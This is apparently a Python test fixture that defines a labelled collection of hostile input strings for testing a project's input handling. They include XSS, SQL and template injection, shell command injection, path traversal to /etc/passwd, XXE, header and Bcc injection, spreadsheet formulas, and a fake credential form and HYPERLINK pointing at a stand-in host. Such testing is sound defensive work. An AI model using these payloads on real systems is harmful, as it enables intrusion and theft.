"""Hostile strings by their kind, written for this project: what each tries is its name."""

from collections.abc import Mapping
from unicodedata import category, normalize

MARK = "Zx7canary"
"""Stands in each string, so that it is found again wherever it was put."""

KINDS: Mapping[str, str] = {
    "a script": f"{MARK}<script>alert(1)</script>",
    "a script after an attribute": f'{MARK}"><script>alert(1)</script>',
    "a handler in an attribute": f"{MARK}' onmouseover='alert(1)",
    "a handler in an attribute with double quotes": f'{MARK}" autofocus onfocus="alert(1)',
    "a picture that fails": f"{MARK}<img src=x onerror=alert(1)>",
    "a drawing that acts": f"{MARK}<svg/onload=alert(1)>",
    "the end of a text area": f"{MARK}</textarea><script>alert(1)</script>",
    "the end of a title": f"{MARK}</title><h1>Ours</h1>",
    "a comment that never ends": f"{MARK}<!--",
    "a form of their own": f"{MARK}</form><form action=//evil.example><input name=password>",
    "a base of their own": f"{MARK}<base href=//evil.example>",
    "a style of their own": f"{MARK}<style>*{{display:none}}</style>",
    "a link that acts": f"javascript:alert(1)//{MARK}",
    "a link of data": f"data:text/html,<b>{MARK}</b>",
    "escapes of HTML": f"{MARK} &lt;b&gt; &amp;amp; &#60; &nbsp;",
    "escapes of addresses": f"{MARK} %3Cscript%3E %00 %252e",
    "escapes of JSON": f"{MARK}\\u003cscript\\u003e \\n \\x3c",
    "a template": f"{MARK} {{{{ 7*7 }}}} {{% raw %}} ${{7*7}} <%= 7*7 %> #{{7*7}}",
    "a template that looks inside": f"{MARK} {{{{ config.SECRET_KEY }}}} {{0.__class__}}",
    "a format string": f"{MARK} %s %n %(secret)s %x {{}} {{0}} {{secret}}",
    "an end of a statement": f"{MARK}'; DROP TABLE leaver; --",
    "a condition that is true": f"{MARK}' OR '1'='1",
    "a union": f'{MARK}" UNION SELECT password_hash FROM credential --',
    "a wildcard": f"{MARK}%_%*?[a-z]\\_",
    "a formula": f'=HYPERLINK("//evil.example","{MARK}")',
    "a formula by plus": f"+{MARK}+cmd|' /C calc'!A0",
    "a formula by at": f"@SUM(1+1)*{MARK}",
    "a formula by minus": f"-2+3+{MARK}",
    "a command": f"{MARK}; touch /tmp/owned; $(id) `id` | id && id",
    "a way up": f"../../../../etc/passwd {MARK}",
    "a way up with backslashes": f"..\\..\\windows\\{MARK}",
    "an entity of XML": f'<!DOCTYPE a [<!ENTITY b SYSTEM "x">]><a>&b;{MARK}</a>',
    "markup of the printed letter": f'{MARK} #import "x" *bold* _it_ $x$ @ref <label> \\ //',
    "a second header": f"{MARK}\r\nSet-Cookie: stay=stolen\r\n\r\n<html>",
    "a second recipient": f"a@example.org\nBcc: {MARK}@example.org",
    "a nought byte": f"{MARK}\x00after",
    "signs that nobody sees": f"{MARK}\u200b\u2060\ufeff\u00ad\u2028\u2029after",
    "signs that turn a line round": f"{MARK}\u202egnp.exe\u202c\u2066x\u2069",
    "control signs": f"{MARK}\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x9bafter",
    "letters with many marks": MARK + "Z\u0351\u036b\u0343\u036a" * 20,
    "letters of two widths": f"{MARK} \uff1cscript\uff1e \uff07 \uff1d1+1",
    "letters that grow when they change case": f"{MARK} \u0130\u00df\ufb03\u1e9e",
    "little pictures of several signs": MARK + " \U0001f469\u200d\U0001f469\u200d\U0001f467",
    "letters written from the right": f"{MARK} \u0633\u0644\u0627\u0645 \u05e9\u05dc\u05d5\u05dd",
    "signs beyond the first plane": f"{MARK} \U00020000\U0010fffd\ufffe\uffff",
    "what other languages call nothing": f"null undefined NaN None nil {MARK} true",
    "numbers that are none": f"1e309 -0 NaN Infinity 0x7f 1_000 \u0661\u0662 {MARK}",
    "a very long word": MARK + "W" * 20_000,
    "very many lines": f"{MARK}\n" * 3000,
    "nothing but blanks around": f" \t\u00a0\u3000 {MARK} \t\n ",
    "words a careless filter refuses": f"Scunthorpe, Dick van Dyke, expression analyst {MARK}",
    "a name with all it may have": f"D\u2019Arcy-O\u2019Neill y Si\u00e2n {MARK}",
}

ALL_AT_ONCE = " ".join(string for string in KINDS.values() if len(string) < 200)

NAUGHTY: Mapping[str, str] = {"all the short ones at once": ALL_AT_ONCE, **KINDS}
"""What is tried, in this order: the first alone finds most of what there is to find."""


def bare(text: str) -> str:
    """Return a text as a page may show it: no unseen signs, one blank, composed letters."""
    seen = (" " if sign in "\t\n\r" or category(sign)[0] == "Z" else sign for sign in text)
    return normalize("NFC", " ".join("".join(s for s in seen if s.isprintable()).split()))
